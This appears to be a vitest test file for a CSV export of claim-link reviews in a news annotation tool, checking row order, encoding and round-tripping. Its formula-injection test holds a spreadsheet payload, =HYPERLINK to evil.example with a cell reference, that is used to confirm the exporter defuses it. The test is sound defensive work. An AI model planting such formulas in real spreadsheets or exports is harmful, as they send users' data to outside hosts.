import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { makeAnnotation, makeArticle } from '../../../../testing/fixtures';
import { annotate, sampleCorpus } from '../../../../testing/sampleCorpus';
import type { Annotation } from '../../model/annotation';
import type { Article } from '../../model/article';
import type { Link } from '../../model/link';
import { DEFAULT_KINDS, defaultTags } from '../../model/tagSchema';
import type { ProjectSnapshot } from '../projectSnapshot';
import { REVIEW_CSV_COLUMNS, defused, exportReviewCsv } from './exportReviewCsv';

function snapshotOf(articles: Article[], annotations: Annotation[], links: Link[]): ProjectSnapshot {
  return { name: 'Test', articles, annotations, links, linkTypes: [], entities: [], tags: defaultTags(), kinds: DEFAULT_KINDS.map((k) => ({ ...k })), counted: [] };
}

function link(id: string, from: Annotation, to: Annotation, extra: Partial<Link> = {}): Link {
  return { id, type: 'contradicts', fromId: from.id, toId: to.id, fromArticleId: from.articleId, toArticleId: to.articleId, status: 'candidate', reason: '', rationale: '', createdAt: '2026-01-02T00:00:00.000Z', updatedAt: '', ...extra };
}

function claim(id: string, article: Article, phrase: string): Annotation {
  const start = article.text.indexOf(phrase);
  return { ...makeAnnotation(id, article.id, 'claim', start, start + phrase.length), quotes: [{ exact: phrase, prefix: '', suffix: '' }] };
}

/** The cells as a spreadsheet reads them back: BOM off, CRLF rows. */
function cells(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('exportReviewCsv', () => {
  const corpus = sampleCorpus();
  const articles = [...corpus.values()].map((a): Article => ({ ...a.summary, ...a.body }));
  const coalition = annotate(corpus, 'coalition', '002', 'killed at least 100 pro-regime fighters', 'claim');
  const monitor = annotate(corpus, 'monitor', '002', 'confirmed 45 dead among pro-regime forces', 'claim');
  const some100 = annotate(corpus, 'some100', '003', 'Some 100 pro-regime forces were killed', 'claim');
  const sdf = annotate(corpus, 'sdf', '000', 'Syria', 'claim');

  it('starts with a BOM and the header, ends rows with CRLF', () => {
    const csv = exportReviewCsv(snapshotOf(articles, [coalition, monitor], [link('l1', coalition, monitor)]));
    expect(csv.startsWith('\uFEFFstatus,type,reason,rationale,why,claim A,article A,outlet A,date A,claim B,article B,outlet B,date B,link id,created\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '').includes('\n')).toBe(false);
  });

  it('lists the links in the review’s order (newest article date first, undated last), with labels for status, type and reason', () => {
    const links = [
      link('undated', some100, some100, { createdAt: '2026-01-01T00:00:00.000Z', type: 'same-claim' }),
      link('old', sdf, sdf, { createdAt: '2026-01-01T00:00:00.000Z', status: 'rejected', reason: 'different-time' }),
      link('new', coalition, monitor, { status: 'explained', reason: 'different-source', rationale: 'Monitor counts confirmed dead.', why: 'killed: at least 100 vs 45', type: 'updates' }),
    ];
    const rows = cells(exportReviewCsv(snapshotOf(articles, [coalition, monitor, some100, sdf], links)));
    expect(rows[0]).toEqual([...REVIEW_CSV_COLUMNS]);
    expect(rows.slice(1).map((r) => r[13])).toEqual(['new', 'old', 'undated']);
    const title = 'US-led coalition said it killed at least 100 pro-regime fighters';
    expect(rows[1]).toEqual([
      'Explained',
      'Updates',
      'Different source',
      'Monitor counts confirmed dead.',
      'killed: at least 100 vs 45',
      'killed at least 100 pro-regime fighters',
      title,
      'AFP',
      '2018-02-08',
      'confirmed 45 dead among pro-regime forces',
      title,
      'AFP',
      '2018-02-08',
      'new',
      '2026-01-02T00:00:00.000Z',
    ]);
    expect(rows[2]?.slice(0, 3)).toEqual(['Rejected', 'Contradicts', 'Different time']);
    expect(rows[3]?.slice(0, 3)).toEqual(['Candidate', 'Same claim', '']);
  });

  it('lists the queue as another view of the review shows it', () => {
    const links = [link('a', coalition, monitor, { status: 'rejected' }), link('b', some100, some100)];
    const rows = cells(exportReviewCsv(snapshotOf(articles, [coalition, monitor, some100], links), { filter: { status: 'all', type: 'all', articleId: 'all', outlet: 'all' }, sort: 'status' }));
    expect(rows.slice(1).map((r) => r[13])).toEqual(['b', 'a']);
  });

  it('parses back to the same cells: line breaks, quotes, commas, Arabic, emoji, spaces at the ends', () => {
    const text = 'قال المرصد السوري إن 45 قتلوا.\nHe said "no, 100", twice.\r\n';
    const ar = { ...makeArticle('ar', text), title: 'عنوان، مع "اقتباس"', source: 'Al, "Jazeera"' };
    const a = claim('a', ar, 'قال المرصد السوري إن 45 قتلوا.');
    const b = claim('b', ar, 'He said "no, 100", twice.');
    const rationale = 'Line one,\nline "two"\r\nline three 👍🏽';
    const rows = cells(exportReviewCsv(snapshotOf([ar], [a, b], [link('l', a, b, { rationale, why: '  padded  ' })])));
    expect(rows[1]).toEqual([
      'Candidate',
      'Contradicts',
      '',
      rationale,
      '  padded  ',
      'قال المرصد السوري إن 45 قتلوا.',
      'عنوان، مع "اقتباس"',
      'Al, "Jazeera"',
      '2018-02-08',
      'He said "no, 100", twice.',
      'عنوان، مع "اقتباس"',
      'Al, "Jazeera"',
      '2018-02-08',
      'l',
      '2026-01-02T00:00:00.000Z',
    ]);
  });

  it('defuses cells that a spreadsheet would run as formulas', () => {
    const art = { ...makeArticle('f', '=HYPERLINK("http://evil.example?"&A1) and more.'), title: '@SUM(A1:A9)', source: '+AFP' };
    const a = claim('a', art, '=HYPERLINK("http://evil.example?"&A1)');
    const b = claim('b', art, 'and more.');
    const rows = cells(exportReviewCsv(snapshotOf([art], [a, b], [link('l', a, b, { rationale: '-45 is wrong', why: '\t=1+1' })])));
    expect(rows[1]?.slice(3, 8)).toEqual(["'-45 is wrong", "'\t=1+1", '\'=HYPERLINK("http://evil.example?"&A1)', "'@SUM(A1:A9)", "'+AFP"]);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@cmd', "'@cmd"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['a=1', 'a=1'],
    [' =1', ' =1'],
    ['', ''],
    ['45', '45'],
  ])('defused(%j) is %j', (cell, expected) => {
    expect(defused(cell)).toBe(expected);
  });

  it('writes the header alone for a project without links', () => {
    expect(exportReviewCsv(snapshotOf(articles, [], []))).toBe(`\uFEFF${REVIEW_CSV_COLUMNS.join(',')}\r\n`);
  });
});
